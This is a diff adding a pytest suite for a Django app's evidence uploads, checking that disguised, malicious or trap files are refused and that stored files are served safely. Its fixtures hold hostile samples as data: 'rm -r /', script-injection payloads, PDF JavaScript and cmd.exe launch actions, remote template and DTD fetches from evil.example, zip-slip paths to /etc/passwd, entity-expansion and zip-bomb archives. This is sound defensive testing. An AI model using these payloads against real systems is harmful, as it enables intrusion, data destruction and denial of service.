@@ -1,0 +1,239 @@
+"""Evidence: what is taken and what is not, how it is kept, and how it is given back."""
+
+import io
+import random
+import zipfile
+from collections.abc import Callable
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from commonweal.basics.findings import Refused
+from commonweal.exchange.files import File
+from commonweal.exchange.sniffing import NotTaken
+from commonweal.web.evidence.actions import take_away
+from commonweal.web.evidence.keeping import Damaged, damaged, keep, place_of, read
+from commonweal.web.evidence.models import Upload
+from commonweal.web.evidence.scanning import scan
+from commonweal.web.evidence.sorts import LONGEST_NAME, MOST_BYTES, shown_name, sort_of
+from commonweal.web.register.reading import records
+from tests.web.asked import answered, asked, opened, sent
+from tests.web.conftest import TESTER, person, signed_in
+
+PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(20) + b"\xff\xd9"
+MAIL = (b"From: a@b.example\r\nTo: c@d.example\r\nDate: Mon, 1 Jan 2024 10:00:00 +0000\r\nSubject: Hours\r\n\r\n"
+        b"Ten hours.\r\n")
+TYPES = "[Content_Types].xml"
+PROGRAM, ELF = b"MZ\x90\x00" + bytes(60), b"\x7fELF" + bytes(60)
+HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+
+
+def archive(*members: tuple[str, bytes], change: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
+    """A ZIP file of these members."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, content in members:
+            info = zipfile.ZipInfo(name)
+            info.compress_type = zipfile.ZIP_DEFLATED
+            if change:
+                change(info)
+            made.writestr(info, content)
+    return out.getvalue()
+
+
+def office(*more: tuple[str, bytes], part: str = "xl/workbook.xml", inside: bytes = b"<workbook/>") -> bytes:
+    """An office file with further members."""
+    return archive((TYPES, b"<Types/>"), (part, inside), *more)
+
+
+XLSX, DOCX = office(), office(part="word/document.xml")
+GOOD = {
+    "hours.pdf": PDF, "HOURS.PDF": PDF, "garden.png": PNG, "garden.jpg": JPEG, "garden.jpeg": JPEG, "hours.xlsx": XLSX,
+    "letter.docx": DOCX, "hours.csv": b"day,hours\n2025-01-01,4\n", "note.txt": "Zwölf Stunden".encode(),
+    "windows.csv": "Café;1\r\n".encode("cp1252"), "letter.eml": MAIL,
+}
+LINK = 0o120777 << 16
+DECEPTIVE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><workbook>&b;</workbook>'
+# Sixty files that are not what they are called, or more than it.
+DISGUISED: list[tuple[str, bytes]] = [
+    *((f"report.{ending}", PROGRAM) for ending in ("pdf", "png", "jpg", "xlsx", "docx", "csv", "txt", "eml")),
+    *((f"report.{ending}", ELF) for ending in ("pdf", "png", "jpg", "xlsx", "docx", "csv")),
+    *((f"report.{ending}", HTML) for ending in ("pdf", "png", "jpg", "xlsx", "docx", "csv", "txt", "eml")),
+    ("photo.svg", SVG), ("photo.png", SVG), ("photo.csv", SVG), ("photo.jpg", SVG), ("page.html", HTML),
+    ("program.exe", PROGRAM), ("report.pdf.exe", PROGRAM), ("script.js", b"alert(1)"), ("run.sh", b"#!/bin/sh\n"),
+    ("run.txt", b"#!/bin/sh\nrm -r /\n"), ("page.txt", b"\xef\xbb\xbf  <html><body>"), ("page.csv", b"<?php echo 1;"),
+    ("report.pdf", PNG), ("report.png", PDF), ("report.png", JPEG), ("report.xlsx", DOCX), ("report.docx", XLSX),
+    ("report.csv", XLSX), ("report.txt", PDF), ("old.xls", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)),
+    ("report.xlsx", bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le") + bytes(600)),
+    ("report.pdf", b" \n" + PDF), ("report.pdf", PDF[:-7]), ("polyglot.pdf", PDF + archive(("a.txt", b"x")) + b"%%EOF"),
+    ("polyglot.png", PNG + archive(("a.txt", b"x"))), ("polyglot.jpg", JPEG + archive(("a.txt", b"x")) + b"\xff\xd9"),
+    ("tail.png", PNG + b"<script>alert(1)</script>"),
+    ("locked.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root")),
+    ("active.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
+    ("launch.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>")),
+    ("carrier.pdf", PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 3 0 R>>")),
+    ("macro.xlsm", office(("xl/vbaProject.bin", b"macro"))), ("macro.xlsx", office(("xl/vbaProject.bin", b"macro"))),
+    ("macro.docx", office(("word/vbaProject.bin", b"macro"), part="word/document.xml")),
+    ("object.docx", office(("word/embeddings/oleObject1.bin", b"ole"), part="word/document.xml")),
+    ("template.docx", office(("word/_rels/settings.xml.rels", b'<Relationship Type="x/attachedTemplate" '
+                              b'Target="http://evil.example/t.dotm" TargetMode="External"/>'),
+                              part="word/document.xml")),
+    ("empty.pdf", b""), ("blank.csv", b"\xef\xbb\xbf \r\n\t"), ("nul.txt", b"hours\x00\x00"), ("nul.pdf", bytes(40)),
+    ("no-ending", PDF), ("mail.eml", b"Just text.\n"),
+    ("carrier.eml", MAIL + b'Content-Disposition: attachment; filename="invoice.exe"\r\n'),
+]
+ARCHIVES: list[tuple[str, bytes]] = [
+    ("bomb.xlsx", office(("xl/big.xml", bytes(30_000_000)))),
+    ("nested.docx", office(("word/inner.zip", archive(("a", b"b"))), part="word/document.xml")),
+    ("many.xlsx", office(*((f"xl/{number}.xml", b"x") for number in range(1_001)))),
+    ("slip.xlsx", office(("../../etc/passwd", b"x"))),
+    ("slip.docx", office(("/etc/passwd", b"x"), part="word/document.xml")),
+    ("windows.xlsx", office(("C:\\autoexec.bat", b"x"))),
+    ("link.xlsx", archive((TYPES, b"<Types/>"), ("xl/workbook.xml", b"/etc/passwd"),
+                          change=lambda info: setattr(info, "external_attr", LINK))),
+    ("entity.xlsx", office(inside=DECEPTIVE)), ("entity.docx", office(part="word/document.xml", inside=DECEPTIVE)),
+    ("external.xlsx", office(inside=b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><workbook/>')),
+    ("utf16.xlsx", office(inside=DECEPTIVE.decode().encode("utf-16"))),
+    ("cut.xlsx", XLSX[:-40]), ("changed.docx", DOCX[:40] + b"\x00" * 30 + DOCX[70:]),
+]
+
+
+@pytest.mark.parametrize("name", GOOD)
+def test_evidence_of_every_sort_is_taken(name):
+    assert sort_of(File(name, GOOD[name])).shown.startswith("a")
+
+
+def test_sixty_disguised_files_are_all_refused_with_what_to_do():
+    assert len(DISGUISED) >= 60
+    missed = []
+    for name, content in DISGUISED:
+        try:
+            sort_of(File(name, content))
+            missed.append(name)
+        except NotTaken as error:
+            assert str(error) and error.mend, name
+    assert missed == []
+
+
+@pytest.mark.parametrize(("name", "content"), ARCHIVES, ids=[name for name, _ in ARCHIVES])
+def test_an_office_file_that_is_a_trap_is_refused(name, content):
+    with pytest.raises(NotTaken):
+        sort_of(File(name, content))
+
+
+def test_a_file_that_is_too_large_is_refused():
+    with pytest.raises(NotTaken, match="larger than 20 MB"):
+        sort_of(File("large.csv", b"x" * (MOST_BYTES + 1)))
+
+
+@pytest.mark.parametrize(("name", "shown"), [
+    ("../../etc/passwd.pdf", "passwd.pdf"), ("C:\\temp\\hours.pdf", "hours.pdf"),
+    ("hours\u202efdp.exe", "hoursfdp.exe"),
+    ("a\x00b.pdf", "ab.pdf"), ("line\nbreak.pdf", "linebreak.pdf"),
+    ("x" * 300 + ".pdf", "x" * (LONGEST_NAME - 4) + ".pdf"),
+    ("", "file"), ("  .pdf", ".pdf"),
+])
+def test_a_name_is_shown_without_folders_and_hidden_signs(name, shown):
+    assert shown_name(name) == shown and len(shown_name(name)) <= LONGEST_NAME
+
+
+def test_bytes_are_kept_once_by_their_fingerprint_and_ten_that_were_damaged_are_all_found(settings, tmp_path):
+    settings.HOME = tmp_path
+    kept = [keep(f"file {number}".encode()) for number in range(1_000)]
+    assert keep(b"file 0") == kept[0] and read(kept[0]) == b"file 0"
+    assert place_of(kept[0]) == tmp_path / "evidence" / kept[0][:2] / kept[0]
+    assert place_of(kept[0]).stat().st_mode & 0o777 == 0o400
+    spoiled = random.Random(20250331).sample(kept, 10)
+    for sha256 in spoiled:
+        place_of(sha256).chmod(0o600)
+        place_of(sha256).write_bytes(b"something else")
+    assert set(damaged(kept)) == set(spoiled)
+    with pytest.raises(Damaged):
+        read(spoiled[0])
+    with pytest.raises(ValueError, match="not a fingerprint"):
+        place_of("../secret")
+
+
+@pytest.mark.parametrize(("command", "told"), [
+    ("sh -c 'exit 1'", "found something"), ("sh -c 'exit 2'", "does not answer"),
+    ("/no/such/scanner", "does not answer")])
+def test_a_scanner_that_finds_something_or_cannot_tell_keeps_the_file_out(settings, tmp_path, command, told):
+    settings.HOME, settings.SCANNER = tmp_path, command
+    with pytest.raises(NotTaken, match=told):
+        scan(b"x")
+
+
+def test_a_scanner_reads_the_very_bytes_and_without_one_nothing_is_claimed(settings, tmp_path):
+    settings.HOME, settings.SCANNER = tmp_path, "grep -q harmless"
+    assert scan(b"harmless") == "clean"
+    settings.SCANNER = ""
+    assert scan(b"anything") == "not scanned"
+
+
+@pytest.fixture
+def supplier(body):
+    """A browser of somebody at Brightbuild, asked about a quarter."""
+    opened(body)
+    return signed_in(person("supplier", body, "brightbuild"))
+
+
+KEY = "2025-q1.repairs.brightbuild.1"
+
+
+def _bring(browser, *files, kind="timesheet", dated="2025-03-31"):
+    return browser.post(f"/smallford/returns/answers/{KEY}/evidence/", {
+        "upload": [SimpleUploadedFile(name, content) for name, content in files], "kind": kind, "dated": dated})
+
+
+def test_files_are_brought_shown_taken_away_and_sent_with_the_return(supplier, body):
+    assert _bring(supplier, ("hours.pdf", PDF), ("garden.png", PNG)).status_code == 302
+    _bring(supplier, ("again.pdf", PDF))
+    assert Upload.objects.count() == 2
+    page = supplier.get(f"/smallford/returns/answers/{KEY}/").content.decode()
+    assert "hours.pdf" in page and "Not scanned: no scanner is set up here" in page
+    away = Upload.objects.get(name="garden.png")
+    supplier.post(f"/smallford/returns/evidence/{away.key}/away/")
+    answered(asked(body), "volunteering-hours", "5")
+    sent(asked(body))
+    rows = records(body, "evidence", delivery=KEY)
+    assert [(row.text("file_name"), row.text("kind"), row.text("sha256")) for row in rows] == [
+        ("hours.pdf", "timesheet", keep(PDF))]
+    with pytest.raises(Refused, match="was sent"):
+        take_away(TESTER, Upload.objects.get())
+
+
+def test_what_is_not_taken_says_why_beside_the_field_and_none_of_the_files_is_kept(supplier):
+    page = _bring(supplier, ("hours.pdf", PDF), ("photo.png", HTML)).content.decode()
+    assert "The file is called a PNG picture, and its content is something else" in page
+    assert "There is a problem" in page
+    assert not Upload.objects.exists()
+    assert "Choose at least one file" in _bring(supplier).content.decode()
+    page = _bring(supplier, ("hours.pdf", PDF), dated="yesterday").content.decode()
+    assert "write the date as year-month-day" in page
+
+
+def test_a_file_is_given_back_to_be_saved_and_never_shown(supplier, body):
+    _bring(supplier, ("Zwölf \"hours\".pdf", PDF))
+    answer = supplier.get(f"/smallford/returns/evidence/{Upload.objects.get().key}/")
+    assert answer.content == PDF
+    assert answer.headers["Content-Disposition"].startswith("attachment; filename=\"Zw_lf")
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
+    assert answer.headers["Cache-Control"] == "no-store"
+
+
+def test_another_organisation_of_the_same_contract_does_not_get_it(supplier, body):
+    _bring(supplier, ("hours.pdf", PDF))
+    from commonweal.basics.tables import Record
+    from commonweal.ledger.tables import BY_NAME
+    from commonweal.web.register.actions import write_row
+
+    for table, said in (("organisations", {"id": "partner", "name": "Partner", "kind": "company"}),
+                        ("parties", {"activity": "repairs", "organisation": "partner", "part": "partner"})):
+        write_row(TESTER, body, Record(BY_NAME[table], dict.fromkeys(BY_NAME[table].names) | said), 0)
+    partner = signed_in(person("supplier", body, "partner"))
+    assert partner.get(f"/smallford/returns/evidence/{Upload.objects.get().key}/").status_code == 404
+    assert partner.get(f"/smallford/returns/answers/{KEY}/").status_code == 404
